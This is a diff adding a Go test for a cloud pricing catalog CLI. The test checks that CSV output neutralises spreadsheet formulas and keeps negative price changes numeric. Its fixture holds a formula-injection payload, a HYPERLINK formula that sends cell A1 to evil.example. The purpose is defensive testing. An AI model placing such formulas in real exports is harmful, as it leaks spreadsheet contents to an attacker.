@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"database/sql"
+	"encoding/csv"
 	"encoding/json"
 	"io"
 	"net/http"
@@ -185,4 +186,52 @@ func serve(t *testing.T, db string) string {
 	}
 	t.Fatalf("serve did not start: %s%s", out.String(), errOut.String())
 	return ""
+}
+
+// TestCSVOutputNeutralisesFormulas: -o csv never writes a cell a
+// spreadsheet would run (a source reference from a user's --catalog that
+// starts with =), and negative figures stay numbers.
+func TestCSVOutputNeutralisesFormulas(t *testing.T) {
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "offers"), 0o755)
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	os.WriteFile(filepath.Join(dir, "offers", "extra.csv"), []byte("provider,instance_type,region,billing,hourly,currency,source_kind,source_ref,as_of\n"+
+		`aws,g4dn.xlarge,us-west-2,spot,0.2,USD,user,"`+strings.ReplaceAll(evil, `"`, `""`)+`",2026-11-01`+"\n"), 0o644)
+	out, errOut, code := exec(t, false, nil, "catalog", "sources", "--catalog", dir, "-o", "csv")
+	if code != 0 {
+		t.Fatalf("catalog sources (%d): %s", code, errOut)
+	}
+	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range recs {
+		for _, c := range r {
+			if c == evil {
+				t.Errorf("formula written as is: %q", c)
+			}
+			if c == "'"+evil {
+				found = true
+			}
+		}
+	}
+	if !found {
+		t.Errorf("neutralised cell '%s not in:\n%s", evil, out)
+	}
+
+	// Negative changes stay numbers.
+	db := filepath.Join(t.TempDir(), "g.db")
+	raw, _ := os.ReadFile(offerFile)
+	second := filepath.Join(t.TempDir(), "offer2.json")
+	os.WriteFile(second, []byte(strings.Replace(string(raw), "55.0400000000", "49.5000000000", 1)), 0o644)
+	for _, f := range []string{offerFile, second} {
+		if _, errOut, code := exec(t, false, nil, "catalog", "import", "aws", "--file", f, "--db", db); code != 0 {
+			t.Fatal(errOut)
+		}
+	}
+	out, errOut, code = exec(t, false, nil, "catalog", "diff", "--db", db, "-o", "csv")
+	if code != 0 || !strings.Contains(out, ",-10.1") || strings.Contains(out, "'-") {
+		t.Errorf("diff -o csv (%d) should keep -10.1 a number:\n%s%s", code, out, errOut)
+	}
 }
